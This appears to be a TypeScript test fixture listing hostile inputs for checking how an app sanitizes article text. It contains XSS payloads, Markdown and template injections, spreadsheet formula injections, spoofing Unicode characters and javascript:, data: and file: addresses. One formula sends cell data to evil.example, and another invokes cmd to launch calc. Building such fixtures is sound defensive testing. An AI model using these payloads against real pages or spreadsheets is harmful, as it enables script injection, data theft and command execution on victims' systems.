/** What somebody who wants to do harm writes where articles have words. Each tells when it acts, by setting `__acted`. */

const act = (where: string): string => `window.__acted='${where}'`;

/** Markup that runs where text is taken for HTML. */
export const MARKUP: readonly string[] = [
  `<script>${act('script')}</script>`,
  `</script><script>${act('closed script')}</script>`,
  `"><img src=x onerror="${act('img')}">`,
  `<svg onload="${act('svg')}"><script>${act('svg script')}</script></svg>`,
  `<iframe srcdoc="<script>parent.__acted='frame'</script>"></iframe>`,
  `<a href="javascript:${act('link')}">link</a>`,
  `<style>*{visibility:hidden}</style><link rel=stylesheet href=https://evil.example/a.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href=https://evil.example/><form action=https://evil.example/><input autofocus onfocus="${act('focus')}">`,
  `' onmouseover='${act('attribute')}`,
  `<!--><script>${act('comment')}</script>]]>`,
];

/** Markup of Markdown and of templates. */
export const MARKDOWN: readonly string[] = [
  `[open](javascript:${act('markdown')})`,
  '![pixel](https://evil.example/pixel.png)',
  `[open][evil]\n\n[evil]: javascript:${act('reference')}`,
  '<https://evil.example/auto>',
  `\`\`\`html\n<script>${act('fence')}</script>`,
  `{{constructor.constructor("${act('template')}")()}} \${${act('literal')}}`,
];

/** What a spreadsheet takes for a formula. */
export const FORMULAS: readonly string[] = [
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd',
  '@SUM(1+1)',
  '\t=1+1',
  '；=1+1;=1+1',
];

/** Characters that turn, hide or break text. */
export const CHARACTERS: readonly string[] = [
  'Harbour \u202Egnp.exe\u202C turned',
  '\u2066isolated\u2069 \u200Bzero\u200D\u2060width\uFEFF',
  'line\u2028separator\u2029paragraph',
  '\u0007\u001B[31mred\u001B[0m',
  '\uD800 alone',
  'Z͑ͫa̴l̷g̶o̸'.repeat(8),
];

/** A word that fits no column. */
export const LONG_WORD = 'Donaudampfschifffahrtsgesellschaft'.repeat(40);

/** Addresses that are not of the web. */
export const ADDRESSES: readonly string[] = [
  `javascript:${act('address')}`,
  `JaVaScRiPt:${act('address in capitals')}`,
  `data:text/html,<script>${act('data address')}</script>`,
  `vbscript:${act('vbscript')}`,
  'file:///etc/hostname',
];

/** All that may stand in a field of words. */
export const WORDS: readonly string[] = [...MARKUP, ...MARKDOWN, ...FORMULAS, ...CHARACTERS, LONG_WORD];
